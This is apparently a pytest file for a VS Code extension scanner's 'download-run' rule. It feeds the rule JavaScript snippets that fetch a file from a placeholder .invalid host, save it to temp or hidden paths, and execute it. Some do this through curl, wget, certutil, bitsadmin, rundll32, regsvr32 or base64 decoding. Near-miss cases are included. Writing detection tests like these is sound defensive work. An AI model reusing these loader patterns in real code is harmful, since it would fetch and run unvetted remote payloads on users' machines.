"""Downloads that are saved and started. Payloads are inert: hosts end in .invalid."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.download_run import CHECK

RULE = "download-run"
START = """
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const cp = require("child_process"), vscode = require("vscode"), url = "https://a.invalid/s";
"""


@pytest.mark.parametrize(
    "source",
    [
        (
            "const f = path.join(os.tmpdir(), 'a.exe'); fetch(url).then((r) => r.arrayBuffer())"
            ".then((b) => { fs.writeFileSync(f, Buffer.from(b)); cp.execFile(f); });"
        ),
        (
            "const f = os.tmpdir() + '/a'; https.get(url, (r) => {"
            " const s = fs.createWriteStream(f); r.pipe(s); s.on('finish', () => cp.spawn(f)); });"
        ),
        (
            "const f = os.tmpdir() + '/a.js'; https.get(url, (r) =>"
            " r.pipe(fs.createWriteStream(f)));"
            " setTimeout(() => require(f), 5000);"
        ),
        (
            "async function f() { const p = path.join(os.tmpdir(), 'a.ps1');"
            " await fs.promises.writeFile(p, await (await fetch(url)).text());"
            " cp.exec(`powershell -File ${p}`); }"
        ),
        (
            "async function f() { const p = '/tmp/.cache-a'; const { data } ="
            " await require('axios').get(url); fs.writeFileSync(p, data, { mode: 0o755 });"
            " cp.spawn(p, [], { detached: true, stdio: 'ignore' }).unref(); }"
        ),
        (
            "const save = (p, d) => fs.writeFileSync(p, d); const f = os.tmpdir() + '/a.vbs';"
            " fetch(url).then((r) => r.text()).then((t) => { save(f, t);"
            " cp.exec('wscript ' + f); });"
        ),
        "cp.execSync('curl -s -o /tmp/aaa https://a.invalid/s'); cp.exec('sh /tmp/aaa');",
        "cp.execSync('curl -so /tmp/a.js https://a.invalid/s'); cp.spawn('node', ['/tmp/a.js']);",
        (
            "class I { constructor() { this.file = os.tmpdir() + '/a.exe'; }"
            " async get() { fs.writeFileSync(this.file, await (await fetch(url)).text()); }"
            " run() { cp.spawn(this.file, { windowsHide: true }); } }"
        ),
    ],
)
def test_a_download_that_is_started_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        (
            "const f = os.tmpdir() + '/a.png'; fetch(url).then((r) => r.text()).then((t) => {"
            " fs.writeFileSync(f, t); cp.exec('git status'); });"
        ),
        (
            "const f = os.tmpdir() + '/a.exe'; fetch(url).then((r) => r.text()).then((t) =>"
            " fs.writeFileSync(f, t));"
        ),
        (
            "fs.writeFileSync(os.tmpdir() + '/a.js', 'work()'); cp.fork(os.tmpdir() + '/a.js');"
            " fetch(url);"
        ),
        (
            "async function f(c) { const p = path.join(c.globalStorageUri.fsPath, 'server');"
            " const ok = await vscode.window.showInformationMessage('Download the server?', 'Yes');"
            " if (!ok) return; fs.writeFileSync(p, await (await fetch(url)).text()); cp.spawn(p); }"
        ),
        (
            "async function f() { const p = path.join(os.tmpdir(), 'server');"
            " const data = Buffer.from(await (await fetch(url)).arrayBuffer());"
            " const digest = require('crypto').createHash('sha256').update(data).digest('hex');"
            " if (digest !== expected) throw new Error(); fs.writeFileSync(p, data); cp.spawn(p); }"
        ),
        (
            "fetch(url).then((r) => r.json()).then((j) => {"
            " fs.writeFileSync(os.tmpdir() + '/a.json', j.text); require('./own'); });"
        ),
        "cp.execSync('curl -s -o /tmp/aaa.tgz https://a.invalid/s'); cp.exec('ls /tmp');",
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM


def test_the_message_has_the_source_and_all_lines() -> None:
    source = """\
const fs = require('fs'), file = require('os').tmpdir() + '/a.exe';
async function load() {
  const answer = await fetch('https://a.invalid/s');
  fs.writeFileSync(file, await answer.text());
  require('child_process').spawn(file);
}
"""
    (finding,) = findings_of(CHECK, source)
    assert "fetch https://a.invalid/s (line 3)" in finding.message
    assert "(line 4)" in finding.message
    assert "starts it (line 5)" in finding.message
    assert finding.line == 5


DECODED = {
    "certutil": (
        "const p = process.env.LOCALAPPDATA + '\\\\acme\\\\a';"
        " cp.exec('certutil -urlcache -f https://a.invalid/a ' + p + '.b64', () =>"
        " cp.exec('certutil -decode ' + p + '.b64 ' + p + '.dll', () =>"
        " cp.exec('rundll32 ' + p + '.dll,Start')));"
    ),
    "arguments": (
        "const p = process.env.APPDATA + '\\\\a.txt', q = process.env.APPDATA + '\\\\a.dll';"
        " cp.execFile('bitsadmin', ['/transfer', 'j', 'https://a.invalid/a', p], () =>"
        " cp.execFile('certutil.exe', ['-decode', p, q], () =>"
        " cp.execFile('regsvr32.exe', ['/s', q])));"
    ),
    "base64": (
        "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s');"
        " cp.execSync('base64 -d /tmp/a.txt > /var/tmp/.run'); cp.spawn('sh', ['/var/tmp/.run']);"
    ),
    "two steps": (
        "cp.execSync('wget -qO /tmp/a.gz https://a.invalid/s'); cp.execSync('gunzip /tmp/a.gz');"
        " cp.execSync('mv /tmp/a ~/.local/bin/helper');"
        " cp.spawn('~/.local/bin/helper', [], { detached: true });"
    ),
    "expand": (
        "const d = os.tmpdir(); cp.execSync('curl -o ' + d + '/a.cab https://a.invalid/a.cab');"
        " cp.execSync('expand ' + d + '/a.cab ' + d + '/a.exe'); cp.execFile(d + '/a.exe');"
    ),
}


@pytest.mark.parametrize("source", DECODED.values(), ids=DECODED)
def test_what_is_made_of_a_download_and_started_is_found(source: str) -> None:
    """Other commands decode, extract or move the download first."""
    assert worst(findings_of(CHECK, START + source), RULE) is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s'); cp.spawn('sh', ['/opt/b.sh']);",
        (
            "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s');"
            " cp.execSync('base64 -d /tmp/b.txt > /tmp/b.sh'); cp.spawn('sh', ['/tmp/b.sh']);"
        ),
        (
            "cp.execSync('curl -so /tmp/a.txt https://a.invalid/s');"
            " cp.execSync('cp /tmp/a.txt /srv/a.txt; /usr/bin/sync'); cp.exec('/usr/bin/sync');"
        ),
        "cp.execFile('certutil', ['-dump', file]); cp.execFile('rundll32.exe', ['a.dll,Start']);",
    ],
)
def test_a_file_that_is_not_the_download_is_not_found(source: str) -> None:
    """Something else is decoded or started."""
    assert findings_of(CHECK, START + source) == []


def test_a_hidden_file_that_is_started_is_high() -> None:
    """An own directory of a tool may be hidden; a program is not."""
    source = (
        "async function f() { const p = path.join(os.homedir(), '.cache', 'NAME');"
        " fs.writeFileSync(p, Buffer.from(await (await fetch(url)).arrayBuffer()));"
        " cp.execFile(p); }"
    )
    hidden = findings_of(CHECK, START + source.replace("NAME", ".init"))
    assert worst(hidden, RULE) is Severity.HIGH
    seen = findings_of(CHECK, START + source.replace("NAME", "server"))
    assert worst(seen, RULE) is Severity.MEDIUM
